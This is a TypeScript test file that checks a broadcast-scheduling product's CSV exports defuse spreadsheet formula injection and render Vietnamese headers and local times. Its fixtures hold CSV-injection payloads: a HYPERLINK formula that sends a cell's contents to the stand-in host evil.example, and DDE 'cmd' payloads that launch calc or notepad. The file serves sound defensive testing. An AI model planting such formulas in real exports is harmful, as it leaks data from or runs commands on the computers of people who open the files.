// Every CSV the product emits (the report and the as-run log) neutralises cells a
// spreadsheet would run as formulas: titles starting with = + - @ (or TAB/CR) come out with a
// leading apostrophe, so Excel/LibreOffice show the text instead of evaluating it.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../server/reports/csv.ts";
import { createTestEnv, signedIn, type Client, type TestEnv } from "../helpers/env.ts";
import { ManualClock } from "../../server/clock.ts";

const EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"];
let env: TestEnv;
let viewer: Client;

beforeAll(async () => {
  env = await createTestEnv({ clock: new ManualClock("2026-11-05T03:00:00Z") });
  viewer = await signedIn(env, "viewer");
  const zone = await env.db.zone.create({ data: { code: "z", name: "=cmd|' /C notepad'!A1", outputKind: "file" } });
  const program = await env.db.program.create({ data: { name: "@Chương trình" } });
  const start = new Date("2026-10-05T22:30:00Z"); // 6 Oct 05:30 local
  const airing = await env.db.airing.create({ data: { zoneId: zone.id, programId: program.id, source: "schedule", localDate: "2026-10-06", scheduledStart: start, maxDurationMs: 600_000, status: "aired", actualStart: start } });
  for (const [i, title] of EVIL.entries()) {
    const item = await env.db.item.create({ data: { title, kind: "tts", status: "ready", durationMs: 30_000, sourceRef: "-1-CV/ĐU" } });
    const t = new Date(start.getTime() + i * 31_000);
    await env.db.asRun.create({ data: { airingId: airing.id, zoneId: zone.id, itemId: item.id, localDate: "2026-10-06", scheduledStart: t, actualStart: t, actualEnd: new Date(t.getTime() + 30_000), durationMs: 30_000, status: "completed", source: "schedule", note: "=1+2" } });
  }
});
afterAll(async () => env?.cleanup());

const dangerous = (f: string) => /^[=+\-@\t\r]/.test(f);

async function csv(url: string): Promise<{ bytes: Buffer; records: string[][] }> {
  const r = await viewer.req("GET", url);
  expect(r.status, url).toBe(200);
  expect(r.res.headers.get("content-type")).toContain("text/csv");
  const bytes = Buffer.from(await r.res.arrayBuffer());
  return { bytes, records: parseCsv(bytes.toString("utf8")) };
}

describe("formula injection in every CSV export", () => {
  for (const url of ["/api/reports?period=month&value=2026-10&format=csv", "/api/asrun?from=2026-10-01&to=2026-10-31&format=csv"]) {
    it(`neutralises every formula-leading cell: ${url.split("?")[0]}`, async () => {
      const { bytes, records } = await csv(url);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const fields = records.flat();
      expect(fields.filter(dangerous)).toEqual([]);
      for (const title of EVIL) expect(fields).toContain(`'${title}`);
    });
  }

  it("writes the as-run CSV in Vietnamese, in commune time, with a decimal comma and no host names", async () => {
    const { records } = await csv("/api/asrun?from=2026-10-01&to=2026-10-31&format=csv");
    expect(records[0]).toEqual(["STT", "Ngày", "Cụm loa", "Tin, bài", "Giờ dự kiến", "Bắt đầu", "Kết thúc", "Thời lượng (giây)", "Trạng thái", "Nguồn", "Mức độ", "Được tính là lượt phát", "Ghi chú"]);
    const first = records.find((r) => r[3] === `'${EVIL[0]}`)!;
    expect(first.slice(1, 3)).toEqual(["06/10/2026", "'=cmd|' /C notepad'!A1"]);
    expect(first.slice(5, 12)).toEqual(["06/10/2026 05:30:00", "06/10/2026 05:30:30", "30,0", "Hoàn thành", "Theo lịch", "Thông thường", "Có"]);
    expect(records.flat().join(" ")).not.toMatch(/\d{4}-\d{2}-\d{2}T|month-test|worker/);
  });
});
